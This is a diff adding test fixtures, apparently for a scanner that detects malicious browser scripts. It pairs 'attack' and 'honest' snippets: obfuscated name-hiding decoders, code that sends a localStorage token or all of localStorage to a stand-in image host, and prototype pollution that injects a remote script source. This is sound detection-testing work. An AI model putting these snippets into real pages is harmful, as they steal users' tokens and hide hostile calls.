@@ -29,6 +29,36 @@ const COMPUTED_HOSTS: readonly ScriptPack[] = [
     },
   },
   {
+    rule: 'script_hides_names',
+    what: 'a class under another name',
+    attack: {
+      'web/util/x.js':
+        'class Q { static d(a) { return a.map((c) => String.fromCharCode(c - 3)).join(""); } }\nexport { Q as Spell };',
+      'web/b.js': 'import { Spell } from "./util/x.js";\nwindow[Spell.d(T)](1);',
+    },
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a script that imports long ones',
+    attack: {
+      'web/util/x.js': `export const d = (a) => atob(a); const t = "${'a'.repeat(19_000)}";`,
+      'web/b.js': `${[1, 2, 3, 4, 5, 6].map((n) => `import { d as d${n} } from "./util/x.js";`).join('\n')}\nconst o = {};\no.k = localStorage.getItem("token");\nnew Image().src = "https://img.example.net/" + o.k;`,
+    },
+  },
+  {
+    rule: 'script_hides_names',
+    what: 'a script that is imported when it is used',
+    attack: {
+      'web/util/x.js':
+        'export const d = (a) => new TextDecoder().decode(Uint8Array.from(a, (x) => x ^ 5));',
+      'web/b.js': 'async function go() {\n  const { d } = await import("./util/x.js?v=1");\n  window[d(T)](1);\n}\ngo();',
+    },
+    honest: {
+      'web/util/x.js': 'export const d = (a) => new TextDecoder().decode(a);',
+      'web/b.js': 'const { d } = await import("./util/x.js");\nconst table = {};\ntable[d(T)] = window.name;',
+    },
+  },
+  {
     rule: 'script_sends_store',
     what: 'the address of a picture',
     attack: `${HOST}\nnew Image().src = host + btoa(JSON.stringify({ ...localStorage }));`,
@@ -167,6 +197,12 @@ const POLLUTED: readonly ScriptPack[] = [
     what: 'an assignment',
     attack: 'Object.prototype.src = "https://cdn.example.net/m.js";',
     honest: 'Object.prototype.keysOf = function () { return Object.keys(this); };\nfunction A() {}\nA.prototype.src = "a.png";',
+  },
+  {
+    rule: 'pollutes_prototypes',
+    what: 'members that are assigned together',
+    attack: 'Object.assign(Object.prototype, { src: "https://cdn.example.net/m.js" });',
+    honest: 'Object.defineProperty(Object.prototype, "own", { value: () => 1 });',
   },
   {
     rule: 'pollutes_prototypes',
